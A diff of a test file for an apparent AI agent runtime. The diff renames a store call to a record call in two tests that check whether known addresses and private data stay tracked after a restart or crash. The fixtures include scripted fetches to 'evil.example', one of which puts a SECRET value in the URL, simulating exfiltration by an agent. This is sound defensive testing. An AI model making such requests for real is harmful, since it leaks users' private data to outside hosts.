@@ -303,7 +303,7 @@ test("what a call would have asked for is not known after a restart if it was re
   });
   const { sessionId } = await first.runtime.start({ agent: "lead", task: "go" });
   while (!hung) await new Promise((resolve) => setImmediate(resolve));
-  await first.runtime.store.committed();
+  await first.runtime.record.committed();
   asked = [];
   await using second = open({
     lead: [callTool("web_fetch", { url: goal() }), get("evil.example/next?a=1"), done],
@@ -451,7 +451,7 @@ test("after a crash the same addresses are known and the same data are private",
   const first = open({ lead: wait });
   const { sessionId } = await first.runtime.start({ agent: "lead", task: `See ${web.at("typed.example/")}` });
   while (!hung) await new Promise((resolve) => setImmediate(resolve));
-  await first.runtime.store.committed();
+  await first.runtime.record.committed();
   const again = ["typed.example/", "evil.example/last", "composed.example/before", `evil.example/${SECRET}`];
   await using second = open({ lead: [...again.map(get), done] });
   await (await second.runtime.resume(sessionId)).result;
